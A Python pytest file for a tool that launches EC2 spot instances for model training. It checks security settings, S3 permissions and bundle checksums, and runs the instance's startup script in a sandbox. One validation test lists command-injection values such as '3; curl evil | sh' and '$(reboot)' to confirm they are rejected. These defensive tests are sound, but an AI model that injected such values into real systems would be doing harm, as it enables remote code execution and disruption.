"""Training on EC2: what is asked of EC2, and the script of that very request run in a sandbox against S3."""

import base64
import io
import json
import os
import shutil
import signal
import subprocess
import sys
import tarfile
from collections.abc import Callable, Iterator
from contextlib import suppress
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import boto3
import psutil
import pytest
from botocore.awsrequest import AWSResponse
from botocore.exceptions import ClientError
from moto.server import ThreadedMotoServer

from pipeline import console, ec2, execution, infra, upload
from pipeline.cloud import Cloud
from pipeline.errors import UserError
from pipeline.settings import from_environment
from tests.code.conftest import write_features
from tests.waiting import HANG, until

SETTINGS = from_environment({})
ROOT = SETTINGS.root
# A public parameter that moto knows; the Deep Learning AMI's is none of them.
AMI = "/aws/service/ami-amazon-linux-latest/al2023-ami-kernel-default-x86_64"
QUICK = {"epochs": "2", "batch-size": "32", "hidden-width": "16"}


@pytest.fixture(scope="module")
def ec2_url() -> Iterator[str]:
    """moto's EC2 and Systems Manager. It looks for instance profiles in an IAM of its own."""
    moto = ThreadedMotoServer("127.0.0.1", 0, verbose=False)
    moto.start()
    url = "http://{}:{}".format(*moto.get_host_and_port())
    boto3.client("iam", endpoint_url=url).create_instance_profile(InstanceProfileName="pawline-ec2")
    yield url
    moto.stop()


@pytest.fixture(scope="module")
def cloud(server, ec2_url, tmp_path_factory) -> Iterator[Cloud]:
    """An account with features of random numbers and (random) weights for them in its bucket."""
    features = write_features(tmp_path_factory.mktemp("data") / "features", dim=1280, backbone="mobilenet_v2")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("AWS_ENDPOINT_URL", server.url)
        patch.setenv("AWS_ENDPOINT_URL_EC2", ec2_url)
        patch.setenv("AWS_ENDPOINT_URL_SSM", ec2_url)
        patch.setenv("PAWLINE_EC2_AMI", AMI)
        cloud = Cloud(SETTINGS, boto3.Session(region_name="us-east-1"))
        infra.ensure(cloud)
        s3 = cloud.client("s3")
        for path in features.iterdir():
            s3.upload_file(str(path), SETTINGS.bucket, f"pawline/runs/x/features/{path.name}")
        random = json.dumps({"kind": "random", "seed": 0})
        s3.put_object(Bucket=SETTINGS.bucket, Key="pawline/weights/random/random.json", Body=random)
        yield cloud


def launch(cloud: Cloud, **options: Any) -> dict[str, str]:
    given = {
        "features_uri": f"{ROOT}/runs/x/features",
        "weights_uri": f"{ROOT}/weights/random/",
        "prepared_uri": f"{ROOT}/runs/x/prepared",
        "hyperparameters": QUICK,
    }
    return ec2.launch(cloud, **given | options)


def instance(cloud: Cloud, launched: dict[str, str]) -> dict[str, Any]:
    found = cloud.client("ec2").describe_instances(InstanceIds=[launched["instance_id"]])
    return found["Reservations"][0]["Instances"][0]


def requests(cloud: Cloud) -> list[dict[str, Any]]:
    """What RunInstances is asked from now on."""
    seen: list[dict[str, Any]] = []
    cloud.client("ec2").meta.events.register(
        "provide-client-params.ec2.RunInstances", lambda params, **_: seen.append(params)
    )
    return seen


def user_data(cloud: Cloud, launched: dict[str, str]) -> str:
    attribute = cloud.client("ec2").describe_instance_attribute(
        InstanceId=launched["instance_id"], Attribute="userData"
    )
    return base64.b64decode(attribute["UserData"]["Value"]).decode()


@pytest.fixture(scope="module")
def instance_credentials(cloud) -> dict[str, str]:
    """What the instance's metadata service gives: credentials of the role in its profile."""
    iam = cloud.client("iam")
    profile = iam.get_instance_profile(InstanceProfileName="pawline-ec2")["InstanceProfile"]
    (role,) = profile["Roles"]
    statement = {"Effect": "Allow", "Principal": {"AWS": "arn:aws:iam::123456789012:root"}, "Action": "sts:AssumeRole"}
    trust = json.dumps({"Version": "2012-10-17", "Statement": [statement]})
    iam.update_assume_role_policy(RoleName=role["RoleName"], PolicyDocument=trust)  # EC2 itself does not run here
    given = cloud.client("sts").assume_role(RoleArn=role["Arn"], RoleSessionName="i-0")["Credentials"]
    return {
        "AWS_ACCESS_KEY_ID": given["AccessKeyId"],
        "AWS_SECRET_ACCESS_KEY": given["SecretAccessKey"],
        "AWS_SESSION_TOKEN": given["SessionToken"],
    }


@pytest.fixture
def boot(instance_credentials, tmp_path) -> Callable[..., "Machine"]:
    """Run user data as an instance does at its first boot, with its role and stand-ins for what would end this one."""

    def run(script: str, **options: Any) -> Machine:
        return run_user_data(script, tmp_path, instance_credentials, **options)

    return run


@dataclass(frozen=True)
class Machine:
    """Where the script ran: its exit code, what it printed before its log began, and what `shutdown` was told."""

    code: int
    said: str
    shutdowns: list[str]


def run_user_data(
    script: str, folder: Path, credentials: dict[str, str], *, cli: str = "", terminate_in_training: bool = False
) -> Machine:
    programs = folder / "bin"
    programs.mkdir()
    told = folder / "shutdowns"
    told.touch()
    aws = cli or f"{sys.executable} {Path(__file__).with_name('aws_s3.py')}"
    for name, command in {
        "shutdown": f'echo "$@" >> {told}',
        "aws": f'exec {aws} "$@"',
        "python3": f'exec {sys.executable} "$@"',
    }.items():
        (programs / name).write_text(f"#!/bin/sh\n{command}\n")
        (programs / name).chmod(0o755)
    (folder / "user-data").write_text(script)
    environment = {name: value for name, value in os.environ.items() if name.startswith("AWS_")}
    environment |= credentials | {"PATH": f"{programs}:/usr/bin:/bin", "TMPDIR": str(folder), "OMP_NUM_THREADS": "1"}
    process = subprocess.Popen(
        ["bash", str(folder / "user-data")],
        env=environment,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
        start_new_session=True,
    )
    try:
        if terminate_in_training:
            until(lambda: any("code/train.py" in (each.info["cmdline"] or []) for each in session(process)))
            send(signal.SIGTERM, process)
        said, _ = process.communicate(timeout=HANG)
    finally:
        send(signal.SIGKILL, process)  # the loop that stores the log sleeps
    return Machine(process.returncode, said, told.read_text().splitlines())


def session(process: subprocess.Popen) -> list[psutil.Process]:
    """All processes of the script; `timeout` leaves the process group."""
    return [each for each in psutil.process_iter(["cmdline"]) if is_of(each.pid, process.pid)]


def is_of(pid: int, leader: int) -> bool:
    with suppress(ProcessLookupError):
        return os.getsid(pid) == leader
    return False


def send(number: signal.Signals, process: subprocess.Popen) -> None:
    """A signal to every process of the script, as at a shutdown."""
    for each in session(process):
        with suppress(psutil.Error):
            each.send_signal(number)


def stored(cloud: Cloud, uri: str) -> bytes:
    bucket, _, key = uri.removeprefix("s3://").partition("/")
    return cloud.client("s3").get_object(Bucket=bucket, Key=key)["Body"].read()


def files_of(cloud: Cloud, launched: dict[str, str]) -> set[str]:
    listed = cloud.client("s3").list_objects_v2(Bucket=SETTINGS.bucket, Prefix=f"pawline/models/{launched['run']}/")
    return {entry["Key"].rpartition("/")[2] for entry in listed.get("Contents", [])}


def test_the_instance_is_a_spot_instance_that_terminates_itself_and_lets_nothing_in(cloud):
    seen = requests(cloud)
    launched = launch(cloud)
    (request,) = seen
    assert request["InstanceMarketOptions"] == {
        "MarketType": "spot",
        "SpotOptions": {"SpotInstanceType": "one-time", "InstanceInterruptionBehavior": "terminate"},
    }
    assert request["InstanceInitiatedShutdownBehavior"] == "terminate"
    assert request["MetadataOptions"] == {
        "HttpEndpoint": "enabled",
        "HttpTokens": "required",
        "HttpPutResponseHopLimit": 1,
    }
    assert request["IamInstanceProfile"] == {"Name": "pawline-ec2"}
    assert "KeyName" not in request
    (disk,) = request["BlockDeviceMappings"]
    assert disk["DeviceName"] == "/dev/xvda"
    assert (disk["Ebs"]["Encrypted"], disk["Ebs"]["VolumeType"], disk["Ebs"]["DeleteOnTermination"]) == (
        True,
        "gp3",
        True,
    )

    described = instance(cloud, launched)
    assert described["InstanceLifecycle"] == "spot"
    assert {"Key": "Project", "Value": "pawline"} in described["Tags"]
    groups = cloud.client("ec2").describe_security_groups(
        GroupIds=[group["GroupId"] for group in described["SecurityGroups"]]
    )["SecurityGroups"]
    assert [(group["GroupName"], group["IpPermissions"]) for group in groups] == [("pawline-ec2", [])]


def test_on_demand_asks_for_no_spot_instance(cloud):
    seen = requests(cloud)
    launch(cloud, spot=False, instance_type="m5.xlarge")
    assert "InstanceMarketOptions" not in seen[0]
    assert seen[0]["InstanceType"] == "m5.xlarge"


def test_the_script_trains_stores_model_and_log_and_shuts_down(cloud, boot):
    launched = launch(cloud)
    machine = boot(user_data(cloud, launched))
    log = stored(cloud, launched["log_uri"]).decode()
    assert machine.code == 0, machine.said + log
    assert machine.shutdowns == ["-h +135", "-h now"]
    assert "validation:accuracy=" in log
    assert json.loads(stored(cloud, launched["result_uri"]))["status"] == "Succeeded"
    with tarfile.open(fileobj=io.BytesIO(stored(cloud, launched["model_uri"]))) as archive:
        names = {name.removeprefix("./") for name in archive.getnames()}
        description = json.load(archive.extractfile("./model.json"))
    assert {"model.pth", "model.json", "code/serve.py", "code/breeds/model/classifier.py"} <= names
    assert description["hyperparameters"]["hidden_width"] == 16
    assert description["head_only"] is False


@pytest.mark.skipif(not shutil.which("aws"), reason="the AWS CLI is not installed; aws_s3.py stands in elsewhere")
def test_the_script_works_with_the_real_aws_cli(cloud, boot):
    launched = launch(cloud, weights_uri=None)
    machine = boot(user_data(cloud, launched), cli=shutil.which("aws"))
    assert machine.code == 0, stored(cloud, launched["log_uri"]).decode()
    assert files_of(cloud, launched) == {"model.tar.gz", "train.log", "result.json"}


def test_a_training_that_fails_leaves_its_log_and_shuts_down(cloud, boot):
    launched = launch(cloud, hyperparameters={"epochs": "2", "epohcs": "3"}, weights_uri=None)
    machine = boot(user_data(cloud, launched))
    assert machine.code == 1
    assert machine.shutdowns[-1] == "-h now"
    assert files_of(cloud, launched) == {"train.log", "result.json"}
    assert "Did you mean 'epochs'?" in stored(cloud, launched["log_uri"]).decode()
    result = json.loads(stored(cloud, launched["result_uri"]))
    assert (result["status"], result["step"], result["exit_code"]) == ("Failed", "train", 1)


def test_at_the_deadline_the_training_ends_and_the_machine_shuts_down(cloud, boot):
    launched = launch(cloud, hyperparameters={"epochs": "1000", "patience": "1000"}, weights_uri=None)
    script = user_data(cloud, launched).replace("DEADLINE_SECONDS=7200", "DEADLINE_SECONDS=4")
    machine = boot(script)
    assert machine.code == 124
    assert machine.shutdowns == ["-h +15", "-h now"]
    assert files_of(cloud, launched) == {"train.log", "result.json"}
    assert json.loads(stored(cloud, launched["result_uri"]))["status"] == "TimedOut"


def test_a_machine_that_is_taken_away_still_stores_its_log(cloud, boot):
    launched = launch(cloud, hyperparameters={"epochs": "1000", "patience": "1000"}, weights_uri=None)
    machine = boot(user_data(cloud, launched), terminate_in_training=True)
    assert machine.code == 143
    assert machine.shutdowns[-1] == "-h now"
    assert json.loads(stored(cloud, launched["result_uri"]))["status"] == "Failed"


def test_the_instance_may_write_its_own_models_and_nothing_else(cloud, instance_credentials):
    names = {name.removeprefix("AWS_").lower(): value for name, value in instance_credentials.items()}
    s3 = boto3.client("s3", region_name="us-east-1", **{f"aws_{name}": value for name, value in names.items()})
    for key in ("code/x/sourcedir.tar.gz", "models/pipelines-x/output/model.tar.gz", "releases/1/a/model.tar.gz"):
        with pytest.raises(ClientError, match="AccessDenied"):
            s3.put_object(Bucket=SETTINGS.bucket, Key=f"pawline/{key}", Body=b"")
    with pytest.raises(ClientError, match="AccessDenied"):
        s3.get_object(Bucket=SETTINGS.bucket, Key="other/secret")


def test_code_that_is_not_the_one_meant_is_not_run(cloud, boot, tmp_path):
    script = launch(cloud, dry_run=True)["user_data"]
    digest = script.split("BUNDLE_SHA256=")[1][:64]
    machine = boot(script.replace(digest, "0" * 64))
    assert machine.code == 1
    assert machine.shutdowns[-1] == "-h now"
    assert not list(tmp_path.glob("*/code"))


def test_without_s3_the_machine_shuts_down_all_the_same(cloud, boot, monkeypatch):
    script = launch(cloud, dry_run=True)["user_data"]
    monkeypatch.setenv("AWS_ENDPOINT_URL", "http://127.0.0.1:1")
    monkeypatch.setenv("AWS_MAX_ATTEMPTS", "1")
    assert boot(script).shutdowns[-1] == "-h now"


def test_a_dry_run_prints_the_script_and_touches_nothing(cloud):
    before = (ec2.remains(cloud), cloud.client("s3").list_objects_v2(Bucket=SETTINGS.bucket)["KeyCount"])
    answer = launch(cloud, dry_run=True)
    assert answer["user_data"].startswith("#!/bin/bash\nREGION=us-east-1\n")
    assert "instance_id" not in answer
    assert before == (ec2.remains(cloud), cloud.client("s3").list_objects_v2(Bucket=SETTINGS.bucket)["KeyCount"])


def test_images_are_fetched_only_where_stages_are_trainable(cloud):
    head_only = launch(cloud, dry_run=True)["user_data"]
    fine_tuned = launch(cloud, dry_run=True, hyperparameters={**QUICK, "trainable-stages": "2"})["user_data"]
    assert "[prepared]=" not in head_only
    assert f"[prepared]={ROOT}/runs/x/prepared" in fine_tuned


def trained(cloud: Cloud) -> None:
    """An execution of a pipeline that is only a Train step."""
    code_uri = upload.upload_code(cloud.client("s3"), SETTINGS)
    step = {
        "Name": "Train",
        "Type": "Training",
        "Arguments": {
            "AlgorithmSpecification": {"TrainingImage": SETTINGS.training_image, "TrainingInputMode": "File"},
            "HyperParameters": {
                **QUICK,
                "sagemaker_program": "train.py",
                "sagemaker_submit_directory": f"{code_uri}sourcedir.tar.gz",
            },
            "InputDataConfig": [
                {
                    "ChannelName": name,
                    "DataSource": {"S3DataSource": {"S3DataType": "S3Prefix", "S3Uri": f"{ROOT}/{prefix}"}},
                }
                for name, prefix in {"features": "runs/x/features", "weights": "weights/random/"}.items()
            ],
            "OutputDataConfig": {"S3OutputPath": f"{ROOT}/models"},
            "ResourceConfig": {"InstanceType": "ml.m5.large", "InstanceCount": 1, "VolumeSizeInGB": 1},
            "RoleArn": SETTINGS.role("train"),
            "StoppingCondition": {"MaxRuntimeInSeconds": 100},
        },
    }
    definition = {"Version": "2020-12-01", "Metadata": {}, "Parameters": [], "Steps": [step]}
    sagemaker = cloud.client("sagemaker")
    sagemaker.create_pipeline(
        PipelineName="pawline",
        PipelineDefinition=json.dumps(definition),
        RoleArn=SETTINGS.role("pipeline"),
        ClientRequestToken="t" * 32,
    )
    arn = sagemaker.start_pipeline_execution(PipelineName="pawline")["PipelineExecutionArn"]
    console.follow(cloud, arn, quiet=True)
    assert execution.describe(cloud, arn)["PipelineExecutionStatus"] == "Succeeded"


def test_what_the_newest_execution_trained_with_is_the_default(cloud):
    with pytest.raises(UserError, match="never started"):
        ec2.from_execution(cloud)
    trained(cloud)
    given = ec2.from_execution(cloud)
    assert given == {
        "features_uri": f"{ROOT}/runs/x/features",
        "weights_uri": f"{ROOT}/weights/random/",
        "prepared_uri": None,
        "hyperparameters": QUICK,
    }
    assert ec2.inputs(cloud, hyperparameters={"epochs": "9", "seed": "1"}) == {
        **given,
        "hyperparameters": {**QUICK, "epochs": "9", "seed": "1"},
    }
    assert "HYPERPARAMETERS=(--epochs=2 " in ec2.launch(cloud, **given, dry_run=True)["user_data"]


def test_features_that_are_given_need_no_execution(cloud):
    other = Cloud(replace(SETTINGS, project="other"), cloud.session)
    assert ec2.inputs(other, features_uri="s3://b/f", hyperparameters={"epochs": "1"}) == {
        "features_uri": "s3://b/f",
        "weights_uri": None,
        "prepared_uri": None,
        "hyperparameters": {"epochs": "1"},
    }


@pytest.mark.parametrize(
    ("options", "message"),
    [
        ({"hyperparameters": {"epochs": "3; curl evil | sh"}}, "epochs cannot be"),
        ({"hyperparameters": {"epochs": "$(reboot)"}}, "epochs cannot be"),
        ({"hyperparameters": {"epochs": "3'\n"}}, "epochs cannot be"),
        ({"hyperparameters": {"epochs=3 --seed": "3"}}, "no name of a hyperparameter"),
        ({"hyperparameters": {"model-dir": "elsewhere"}}, "is no hyperparameter"),
        ({"features_uri": "s3://b/x'; reboot; '"}, "no S3 address"),
        ({"features_uri": "/home/me/features"}, "no S3 address"),
        ({"instance_type": "ml.m5.xlarge"}, "no EC2 instance type"),
        ({"deadline_minutes": 0}, "deadline of 0 minutes"),
        ({"features_uri": f"{ROOT}/runs/nothing/here"}, "no features.json"),
    ],
)
def test_bad_input_is_refused_before_anything_is_launched(cloud, options, message):
    before = ec2.remains(cloud)
    with pytest.raises(UserError, match=message.replace("$", r"\$")):
        launch(cloud, **options)
    assert ec2.remains(cloud) == before


def test_an_unknown_image_is_named(cloud, monkeypatch):
    monkeypatch.setenv("PAWLINE_EC2_AMI", "/somebody/ami")
    with pytest.raises(UserError, match="/somebody/ami cannot be used"):
        launch(cloud)


class Refusal(io.BytesIO):
    """The body of an answer in which EC2 refuses a request."""

    def __init__(self, code: str, message: str):
        error = f"<Error><Code>{code}</Code><Message>{message}</Message></Error>"
        super().__init__(f"<Response><Errors>{error}</Errors></Response>".encode())

    def stream(self) -> Iterator[bytes]:
        yield self.read()


@pytest.mark.parametrize(
    ("code", "advice"),
    [
        ("MaxSpotInstanceCountExceeded", "more spot vCPUs"),
        ("VcpuLimitExceeded", "a new account has none for GPUs"),
        ("UnauthorizedOperation", "docs/aws.md"),
        ("InvalidParameterValue", "Check the instance type"),
    ],
)
def test_what_ec2_refuses_says_what_to_do(cloud, code, advice):
    events = cloud.client("ec2").meta.events
    answer = AWSResponse("http://ec2", 400, {}, Refusal(code, "No."))
    events.register("before-send.ec2.RunInstances", refuse := lambda **_: answer)
    with pytest.raises(UserError, match=advice):
        launch(cloud)
    events.unregister("before-send.ec2.RunInstances", refuse)


def test_a_missing_instance_profile_is_made_by_the_template(cloud):
    other = Cloud(replace(SETTINGS, project="other"), cloud.session)
    with pytest.raises(UserError, match="pawline deploy-infra"):
        launch(other)
    ec2.remove(other)


def test_a_security_group_that_was_opened_is_not_used(cloud):
    launch(cloud)
    client = cloud.client("ec2")
    group = next(each for each in ec2.remains(cloud) if each.startswith("sg-"))
    rule = {"GroupId": group, "IpProtocol": "tcp", "FromPort": 22, "ToPort": 22, "CidrIp": "0.0.0.0/0"}
    client.authorize_security_group_ingress(**rule)
    with pytest.raises(UserError, match=group):
        launch(cloud)
    client.revoke_security_group_ingress(**rule)


def test_remove_leaves_nothing(cloud):
    launch(cloud)
    ec2.remove(cloud)
    assert ec2.remains(cloud) == []
